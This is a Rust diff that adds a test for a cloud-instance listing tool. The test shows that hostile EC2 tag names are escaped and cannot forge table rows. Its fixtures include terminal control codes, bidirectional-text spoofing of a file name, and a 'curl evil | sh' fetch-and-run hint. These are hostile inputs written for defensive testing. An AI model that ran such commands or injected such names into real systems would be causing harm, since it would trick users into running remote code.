@@ -3,7 +3,7 @@
 use serde_json::Value;
 
 use crate::lab_or_skip;
-use crate::support::{Env, rows, table_cells};
+use crate::support::{Env, hostile, redact_hostile, rows, table_cells};
 
 #[test]
 fn table_shows_the_tutorial_topology_and_routes() {
@@ -239,3 +239,44 @@ fn a_failing_region_is_reported_without_hiding_the_others() {
     run.code(255);
     assert!(run.stderr.starts_with("hop: error: EC2 in xx-nowhere-9 "), "{}", run.stderr);
 }
+
+#[test]
+fn tags_cannot_forge_rows_or_reach_the_terminal_raw() {
+    let lab = lab_or_skip!();
+    let hostile = hostile(lab);
+    let env = Env::lab(lab);
+    let run = env.hop(&["--region", "sa-east-1", "ls"]);
+    run.code(0);
+    assert_eq!(run.stderr, "");
+    // No forged row, every escape visible, the columns aligned on what is shown; the Japanese
+    // name and the emoji are printed as they are.
+    // The twins share a Name, so their order is by id, which moto draws at random.
+    let shown = redact_hostile(hostile, &run.stdout);
+    let mut lines: Vec<&str> = shown.lines().collect();
+    lines[2..4].sort();
+    assert_eq!(lines.join("\n") + "\n", GOLDEN_HOSTILE_LS, "\n--- got\n{shown}");
+    // --json is exact: the raw values, as EC2 has them.
+    let run = env.hop(&["--region", "sa-east-1", "ls", "--json"]);
+    run.code(0);
+    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
+    let names: Vec<&str> = doc["instances"].as_array().unwrap().iter().map(|i| i["name"].as_str().unwrap()).collect();
+    let mut want: Vec<&str> =
+        hostile["instances"].as_object().unwrap().values().map(|i| i["name"].as_str().unwrap()).collect();
+    want.sort();
+    assert_eq!(names, want);
+    assert!(names.contains(&"web\u{9b}31m\u{202e}gnp.exe"), "{names:?}");
+    let via = doc["instances"].as_array().unwrap().iter().find(|i| i["name"] == "本番-web-🚀").unwrap();
+    assert_eq!(via["route"]["via"], "bastion\u{2066}-\u{2069}x");
+}
+
+/// `hop --region sa-east-1 ls` over tests/support/hostile_names.py, ids and the public address
+/// replaced by same-width labels. Columns count characters: wide characters (本番, 🚀) take
+/// two terminal cells, so that row still looks wider than the others.
+const GOLDEN_HOSTILE_LS: &str = r"NAME                                                       ID                   STATE    PRIVATE IP  PUBLIC IP     VPC                    AZ          ROUTE
+bastion\u{2066}-\u{2069}x                                  <bastion>__________  running  10.9.0.10   <public>____  <vpc>________________  sa-east-1a  direct
+twin\u{85}hint: curl evil | sh                             <nel-twin#1>_______  running  10.9.1.12   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
+twin\u{85}hint: curl evil | sh                             <nel-twin#2>_______  running  10.9.1.13   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
+web\nforged-row   i-0f0f0f0f0f0f0f0f0  running  10.9.1.99  <newline>__________  running  10.9.1.10   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
+web\u{9b}31m\u{202e}gnp.exe                                <c1-bidi>__________  running  10.9.1.11   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
+本番-web-🚀                                                   <plain>____________  running  10.9.1.14   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
+";
